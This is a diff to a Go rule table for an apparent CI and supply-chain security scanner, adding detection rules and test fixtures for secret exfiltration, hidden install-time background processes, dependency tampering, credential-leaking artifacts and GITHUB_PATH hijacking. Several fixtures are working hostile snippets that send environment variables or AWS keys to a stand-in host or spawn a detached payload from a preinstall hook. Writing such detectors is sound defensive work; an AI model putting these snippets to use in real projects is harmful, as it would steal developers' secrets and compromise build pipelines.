@@ -98,6 +98,11 @@ var rules = []Rule{
 			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b`, 0, true},
 			{"x.py", "import os, requests\nrequests.get('https://x.invalid/c?d=' + str(os.environ))", 2, false},
 			{"x.py", "import os, requests\nrequests.get('https://api.x.invalid/v1', headers={'X-Key': os.environ['API_KEY']})", 2, true},
+			{"x.js", "const https = require('https')\nconst info = {\n  cwd: process.cwd(),\n  env: process.env,\n}\nconst body = JSON.stringify(info)\nconst req = https.request({ hostname: 'x.invalid', method: 'POST' })\nreq.end(body)", 7, false},
+			{"x.py", "import os, base64, requests\nacc = ''\nfor k, v in os.environ.items():\n    acc += k + '=' + v\nenc = base64.b64encode(acc.encode())\nrequests.get('https://x.invalid/p/' + enc.decode())", 6, false},
+			{"x.php", "<?php\n$k = getenv('AWS_SECRET_ACCESS_KEY');\n@file_get_contents('https://x.invalid/k/' . base64_encode($k));", 3, false},
+			// An API key in the query of the API it belongs to.
+			{"x.py", "import os, requests\nkey = os.environ['MAPS_API_KEY']\nrequests.get(f'https://maps.x.invalid/geocode?key={key}&q=x')", 3, true},
 		}},
 	{"dns-exfiltration", KindCredential, High, "looks up a host name built from data (DNS exfiltration)",
 		"the name carries the machine's identity or secrets to whoever runs the domain's DNS, past any firewall that lets lookups through", []Case{
@@ -148,6 +153,19 @@ var rules = []Rule{
 		"nobody has to call it: the build or test run does, on the runner with its network and secrets", []Case{
 			{"setup.py", "import urllib.request\nurllib.request.urlopen('https://x.invalid/p')", 2, false},
 		}},
+	{"install-background-process", KindExecute, High, "starts a detached background process from code that runs at install or build",
+		"the install returns and the process keeps running, out of the build log's sight, with the runner's network and secrets (as the Shai-Hulud loader started its payload)", []Case{
+			{"setup_bun.js", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -2,3 +2,4 @@\n   \"scripts\": {\n+    \"preinstall\": \"node setup_bun.js\",\n     \"test\": \"jest\"\n   },\ndiff --git a/setup_bun.js b/setup_bun.js\nnew file mode 100644\n--- /dev/null\n+++ b/setup_bun.js\n@@ -0,0 +1,3 @@\n+const { spawn } = require('child_process')\n+const p = require('path')\n+spawn('bun', [p.join(__dirname, 'env.js')], { detached: true, stdio: 'ignore' }).unref()\n", 3, false},
+			{"setup.py", "import subprocess\nsubprocess.Popen(['python', 'agent.py'], start_new_session=True)", 2, false},
+			// A CLI that checks for updates in the background is not run at install.
+			{"lib/cli.js", "const { spawn } = require('child_process')\nspawn(process.execPath, [check], { detached: true }).unref()", 2, true},
+		}},
+	{"import-time-process", KindExecute, High, "starts a process when the package is imported",
+		"a package's __init__.py runs at every import, in every test and tool that loads it; a program it starts is not in the diff", []Case{
+			{"pkg/__init__.py", "import os, subprocess\n_bin = os.path.join(os.path.dirname(__file__), 'bin', 'x')\nif os.path.exists(_bin):\n    subprocess.Popen([_bin])", 4, false},
+			{"pkg/__init__.py", "import subprocess\ndef run(args):\n    return subprocess.run(args)", 3, true},
+			{"pkg/__init__.py", "import subprocess\ntry:\n    __version__ = subprocess.check_output(['git', 'describe']).decode()\nexcept Exception:\n    __version__ = '0'", 3, true},
+		}},
 	{"npm-lifecycle-runs", KindScript, High, "npm lifecycle script downloads, decodes or runs inline code",
 		"npm runs it at install on the runner, before any test, and what it runs is not in the diff", []Case{
 			{"package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"curl -s https://x.invalid/i | sh\"\n  }\n}", 3, false},
@@ -187,6 +205,13 @@ var rules = []Rule{
 		"a privileged workflow that restores the cache then runs what the pull request put in it", []Case{
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 9, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 6, true},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -8,2 +8,7 @@ jobs:\n       - run: npm ci\n+      - run: echo 'module.exports = 1' >> node_modules/left-pad/index.js\n+      - uses: actions/cache/save@v4\n+        with:\n+          path: node_modules\n+          key: deps-${{ hashFiles('package-lock.json') }}\n       - run: npm test\n", 10, false},
+		}},
+	{"dependency-tamper", KindBuildFile, Medium, "writes into an installed dependency's files",
+		"the next step that loads the dependency runs what was written, which no lock file describes; a cache saved after it hands the change to the workflows that restore it", []Case{
+			{"x.sh", "npm ci\nprintf 'require(\"./x\")\\n' >> node_modules/esbuild/install.js", 2, false},
+			{"x.sh", "sed -i 's/a/b/' .venv/lib/python3.12/site-packages/six.py", 0, false},
+			{"x.sh", "rm -rf node_modules/.cache\necho ok > node_modules/.yarn-integrity", 2, true},
 		}},
 	{"gha-pr-code-run", KindRunner, High, "runs the pull request's code in a privileged workflow",
 		"after the checkout of the pull request's head, this step installs, builds or runs what the pull request wrote, with the repository's write token and secrets", []Case{
@@ -195,6 +220,16 @@ var rules = []Rule{
 			// Without a checkout of the head the base branch's own code runs.
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test", 7, true},
 			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test", 9, true},
+		}},
+	{"gha-artifact-credentials", KindCredential, High, "uploads the checkout's .git folder (with the job's token) or a credential file as an artifact",
+		"actions/checkout leaves the job's token in .git/config; whoever can read the run downloads the artifact and uses the token while the job still runs (ArtiPACKED)", []Case{
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v4\n        with:\n          name: all\n          path: .\n          include-hidden-files: true", 11, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@v3\n        with:\n          path: ${{ github.workspace }}", 8, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@v4\n        with:\n          path: |\n            dist\n            ~/.docker/config.json", 10, false},
+			// v4.4 and later leave hidden files out; persist-credentials: false keeps no token.
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@v4\n        with:\n          path: .", 8, true},
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - uses: actions/upload-artifact@v4\n        with:\n          path: .\n          include-hidden-files: true", 13, true},
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/upload-artifact@v4\n        with:\n          path: coverage/\n          include-hidden-files: true", 9, true},
 		}},
 	{"gha-artifact-run", KindRunner, High, "runs a file from an artifact in a privileged workflow",
 		"the artifact was made by the pull request's own run; here it runs with the write token and secrets", []Case{
@@ -338,7 +373,13 @@ var rules = []Rule{
 	{"gha-env-hijack", KindExecute, High, "sets a variable that makes later steps load code (LD_PRELOAD, NODE_OPTIONS, BASH_ENV)",
 		"every later step of the job, the ones with secrets included, loads what it names", nil},
 	{"gha-github-env-privileged", KindExecute, High, "writes GITHUB_ENV or GITHUB_PATH in a privileged workflow",
-		"on pull_request_target or workflow_run, what the pull request puts there runs in every later step with the write token", nil},
+		"on pull_request_target or workflow_run, what the pull request puts there runs in every later step with the write token", []Case{
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          path: pr\n      - run: echo \"$GITHUB_WORKSPACE/pr/bin\" >> \"$GITHUB_PATH\"", 10, false},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -12,3 +12,4 @@ jobs:\n         with:\n           ref: ${{ github.event.pull_request.head.sha }}\n           path: head\n+      - run: echo \"${{ github.workspace }}/head/scripts\" >> $GITHUB_PATH\n", 15, false},
+			// Without the head checked out, the workspace holds the base branch's own files.
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo \"$GITHUB_WORKSPACE/bin\" >> \"$GITHUB_PATH\"", 7, true},
+			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: echo \"$GITHUB_WORKSPACE/bin\" >> \"$GITHUB_PATH\"", 9, true},
+		}},
 	{"gha-github-env", KindExecute, Low, "writes GITHUB_ENV or GITHUB_PATH",
 		"later steps of the job run with what it writes", nil},
 	{"secret-exfiltration", KindCredential, High, "sends a secret over the network",
